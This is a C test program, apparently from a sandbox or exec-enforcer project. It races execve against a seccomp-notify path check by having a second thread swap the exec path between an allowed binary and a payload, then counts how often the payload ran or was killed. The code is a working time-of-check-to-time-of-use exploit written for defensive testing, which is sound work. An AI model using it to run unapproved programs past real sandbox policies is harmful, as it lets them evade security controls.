// The path-swap race against a check at syscall entry (after syd's TOCTOU proof of concept):
// while the main thread is in execve(buffer), a second thread keeps rewriting `buffer` between
// an allowed image binary and a drifted payload. The seccomp notify handler may read the allowed
// path; the kernel then re-reads the buffer after CONTINUE and may load the payload. The
// enforcer's ptrace check at PTRACE_EVENT_EXEC must kill every such win before it runs.
//
// usage: exec_race ALLOWED PAYLOAD ATTEMPTS   (both paths of the same length)
// prints: attempts=N allowed=A refused=R killed=K payload=P other=O
#define _GNU_SOURCE
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char buffer[256];
static const char *allowed, *payload;
static volatile int flipping;

static void *flipper(void *arg)
{
    (void)arg;
    size_t len = strlen(allowed) + 1;
    flipping = 1;
    for (;;) {
        memcpy(buffer, payload, len);
        memcpy(buffer, allowed, len);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    if (argc != 4 || strlen(argv[1]) != strlen(argv[2]) || strlen(argv[1]) >= sizeof buffer) {
        fprintf(stderr, "usage: exec_race ALLOWED PAYLOAD ATTEMPTS (paths of equal length)\n");
        return 2;
    }
    allowed = argv[1];
    payload = argv[2];
    int attempts = atoi(argv[3]);
    int n_allowed = 0, n_refused = 0, n_killed = 0, n_payload = 0, n_other = 0;
    for (int i = 0; i < attempts; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            perror("fork");
            return 2;
        }
        if (pid == 0) {
            strcpy(buffer, allowed);
            pthread_t thread;
            pthread_create(&thread, NULL, flipper, NULL);
            while (!flipping)   // race only once the rewriting is under way
                ;
            char *args[] = { "true", NULL };
            execve(buffer, args, environ);
            _exit(errno == EACCES ? 13 : 3);
        }
        int status;
        while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
            ;
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
            n_allowed++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 13)
            n_refused++;
        else if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
            n_killed++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 42)
            n_payload++;
        else
            n_other++;
    }
    printf("attempts=%d allowed=%d refused=%d killed=%d payload=%d other=%d\n",
           attempts, n_allowed, n_refused, n_killed, n_payload, n_other);
    return 0;
}
